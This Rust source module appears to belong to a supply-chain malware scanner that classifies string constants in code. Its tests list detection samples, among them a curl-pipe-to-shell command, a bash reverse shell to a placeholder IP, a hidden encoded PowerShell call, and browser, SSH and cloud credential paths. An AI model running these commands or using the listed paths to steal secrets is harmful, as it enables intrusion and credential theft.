//! What a string constant looks like.

mod command;
mod encoded;
mod network;
mod path;
mod patterns;
mod secret;
mod starts;

use std::borrow::Cow;
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, MatchKind};
use foretaste_model::facts::LiteralKind;

use patterns::Gate;

pub use encoded::{entropy, is_opaque};
pub use secret::is_wallet;

/// How much of a string is looked at for anything but its length.
const SAMPLE: usize = 16 << 10;

/// The kinds of a string constant, each with the part of it that matters (the whole of it, unless a URL stands inside
/// a longer text). Empty for the overwhelming majority of strings, and cheap for them.
pub fn classify(value: &str) -> Vec<(LiteralKind, Cow<'_, str>)> {
    let mut found = Vec::new();
    if value.len() < 4 {
        return found;
    }
    let sample = sample(value);
    let traits = Traits::of(sample.as_bytes());
    if traits.plain_word() && value.len() < 16 {
        return found;
    }
    network::classify(sample, traits, &mut found);
    if secret::finds_wallets(sample) {
        found.push((LiteralKind::WalletPattern, Cow::Borrowed(sample)));
    }
    let gate = GATE.opens_for(sample);
    if gate && (traits.backslash || traits.other) && is_pattern(sample) {
        // a regular expression names what it looks for
        return found;
    }
    // the gate reads backslashes as they are, paths do not
    if gate || traits.backslash {
        path::classify(sample, traits, &mut found);
    }
    if gate && (traits.blank || traits.slash || traits.dot || value.len() < 32) {
        command::classify(sample, &mut found);
    }
    secret::classify(sample, traits, gate, &mut found);
    if gate && let Some(key) = secret::public_key(sample) {
        found.push((LiteralKind::PublicKey, Cow::Borrowed(key)));
    }
    if value.len() >= 40 && !found.iter().any(|(k, _)| *k == LiteralKind::Token) {
        encoded::classify(value, sample, traits, &mut found);
    }
    found
}

/// Binary data as text: printable ASCII as it is, the rest as `\xNN`, at most `chars` characters.
pub fn escaped(data: &[u8], chars: usize) -> String {
    let mut out = String::new();
    for byte in data {
        if out.len() + 4 > chars {
            break;
        }
        if (0x20..0x7f).contains(byte) {
            out.push(char::from(*byte));
        } else {
            out.push_str("\\x");
            out.push(char::from_digit(u32::from(byte >> 4), 16).unwrap_or('0'));
            out.push(char::from_digit(u32::from(byte & 15), 16).unwrap_or('0'));
        }
    }
    out
}

/// All that is searched for in every string: one pass tells most of them that the rest can be left out.
static GATE: Gate = Gate::new(&[
    SIGNS,
    path::SECRET,
    path::PERSISTENCE,
    command::COMMANDS,
    command::ANYWHERE,
    secret::WEBHOOKS,
    &[secret::PRIVATE_KEY],
    secret::PUBLIC_KEYS,
]);

/// What only regular expressions hold.
const SIGNS: &[&str] = &[
    "(?:", "(?i)", "(?P<", "\\s*", "\\b(", "\\w+", "\\d+", "[a-z", ".+)", ".*)",
];

static SIGN: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    // only leftmost searches are done by vector instructions
    let mut search = AhoCorasick::builder();
    search.match_kind(MatchKind::LeftmostFirst);
    search.build(SIGNS).ok()
});

/// True for regular expressions.
fn is_pattern(text: &str) -> bool {
    match &*SIGN {
        Some(sign) => sign.is_match(text),
        None => SIGNS.iter().any(|sign| text.contains(sign)),
    }
}

fn sample(value: &str) -> &str {
    let mut end = value.len().min(SAMPLE);
    while !value.is_char_boundary(end) {
        end -= 1;
    }
    value.get(..end).unwrap_or(value)
}

/// Which kinds of bytes stand in a string.
#[derive(Clone, Copy, Debug, Default)]
struct Traits {
    dot: bool,
    slash: bool,
    colon: bool,
    blank: bool,
    backslash: bool,
    digit: bool,
    upper: bool,
    other: bool,
    non_ascii: bool,
}

const DOT: u16 = 1;
const SLASH: u16 = 1 << 1;
const COLON: u16 = 1 << 2;
const BLANK: u16 = 1 << 3;
const BACKSLASH: u16 = 1 << 4;
const DIGIT: u16 = 1 << 5;
const UPPER: u16 = 1 << 6;
const OTHER: u16 = 1 << 7;
const NON_ASCII: u16 = 1 << 8;

/// The kind of each byte.
const KINDS: [u16; 256] = {
    let mut kinds = [0; 256];
    let mut byte = 0;
    while byte < 256 {
        kinds[byte] = match byte as u8 {
            b'a'..=b'z' | b'_' => 0,
            b'A'..=b'Z' => UPPER,
            b'0'..=b'9' => DIGIT,
            b'.' => DOT,
            b'/' => SLASH,
            b':' => COLON,
            b' ' | b'\n' | b'\t' | b'\r' => BLANK,
            b'\\' => BACKSLASH,
            0x80.. => NON_ASCII,
            _ => OTHER,
        };
        byte += 1;
    }
    kinds
};

impl Traits {
    fn of(bytes: &[u8]) -> Self {
        let seen = bytes
            .iter()
            .fold(0, |seen, byte| seen | KINDS[usize::from(*byte)]);
        let has = |kind: u16| seen & kind != 0;
        Self {
            dot: has(DOT),
            slash: has(SLASH),
            colon: has(COLON),
            blank: has(BLANK),
            backslash: has(BACKSLASH),
            digit: has(DIGIT),
            upper: has(UPPER),
            other: has(OTHER),
            non_ascii: has(NON_ASCII),
        }
    }

    /// Letters, digits and underscores only.
    const fn plain_word(self) -> bool {
        !(self.dot || self.slash || self.colon || self.blank || self.backslash || self.other)
    }
}

#[cfg(test)]
mod tests {
    use LiteralKind as K;
    use proptest::prelude::*;

    use super::*;

    fn kinds(value: &str) -> Vec<LiteralKind> {
        classify(value).into_iter().map(|(k, _)| k).collect()
    }

    #[test]
    fn strings_that_matter_are_told() {
        let b64 = "aW1wb3J0IG9zO29zLnN5c3RlbSgnZWNobyBpbmVydCcpO3ByaW50KCdoZWxsbyB3b3JsZCcp";
        let cases: &[(&str, &[LiteralKind])] = &[
            ("https://collect.example.invalid/c", &[K::Url]),
            ("curl -s http://a.invalid/x | sh", &[K::Url, K::Command]),
            ("evil.example.invalid", &[K::Host]),
            ("cdn.discordapp.com", &[K::Host]),
            ("t.me", &[K::Host]),
            ("185.220.101.7", &[K::IpAddress]),
            ("185.220.101.7:4444", &[K::IpAddress]),
            ("2001:db8::1", &[K::IpAddress]),
            ("~/.ssh/id_rsa", &[K::SecretPath]),
            (".aws/credentials", &[K::SecretPath]),
            ("/etc/shadow", &[K::SecretPath]),
            (
                "~/.aws/credentials /var/lib/x\n~/.netrc",
                &[K::SecretPath, K::SecretPath],
            ),
            (
                "\\Google\\Chrome\\User Data\\Default\\Login Data",
                &[K::SecretPath],
            ),
            ("\\discord\\Local Storage\\leveldb", &[K::SecretPath]),
            ("~/.bashrc", &[K::PersistencePath]),
            (
                "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
                &[K::PersistencePath],
            ),
            (".git/hooks/pre-commit", &[K::PersistencePath]),
            (
                "powershell -NoP -W hidden -EncodedCommand SQBFAFgA",
                &[K::Command],
            ),
            ("/bin/sh", &[K::Command]),
            ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", &[K::Command]),
            ("cmd.exe", &[K::Command]),
            (b64, &[K::Encoded]),
            (
                "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_abcd",
                &[K::Url, K::Token],
            ),
            ("ghp_0123456789abcdefghijklmnopqrstuvwxyz", &[K::Token]),
            (
                "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ4xmKy3v0rQ7wq0Q8m1r6Yk7zqGm3w9J2bQ5x0T1aYz me@x",
                &[K::PublicKey],
            ),
            (
                "0x52908400098527886E0F7030069857D2E4169EE7",
                &[K::WalletAddress],
            ),
        ];
        for (value, expected) in cases {
            assert_eq!(kinds(value), *expected, "{value}");
        }
    }

    #[test]
    fn honest_strings_are_left_alone() {
        for value in [
            "setup.py",
            "README.md",
            "numpy.random",
            "index.html",
            "self.name",
            "package.json",
            "1.2.3",
            "hello world",
            "utf-8",
            "application/json",
            "os.path.join",
            "foo/bar/baz.txt",
            "%Y-%m-%d %H:%M:%S",
            "The quick brown fox jumps over the lazy dog, and runs away from here.",
            "console_scripts",
            "Use curl to download the file",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "site-packages/numpy/core/include/numpy/ndarraytypes",
            "test_that_a_very_long_name_is_not_taken_for_base64_text",
            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/",
            "a.b.c.d.e",
            "::",
            "(?i)(?:Not|Mod|Shl|Shr|And|Or)",
            "NFCISO15693ReadMultipleBlocksConfiguration",
            "https?://dsql\\.(.+)\\.api\\.aws",
            "pip._vendor.pygments.lexers.ml",
            "12:30:45",
            "1.3.101.112",
            "Load cookies.txt or cookies.sqlite",
            "Could not read or write local state file: why",
            "ssh-rsa AAAA... user@host",
            "git.example ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDJ4xmKy3v0rQ7wq0Q8m1r6Yk7zqGm3w9J2bQ5x0",
        ] {
            assert_eq!(kinds(value), [], "{value}");
        }
    }

    proptest! {
        #[test]
        fn nothing_panics(value in "\\PC{0,200}", data in proptest::collection::vec(any::<u8>(), 0..200)) {
            let _ = classify(&value);
            let _ = (is_opaque(&data), escaped(&data, 50));
        }
    }
}
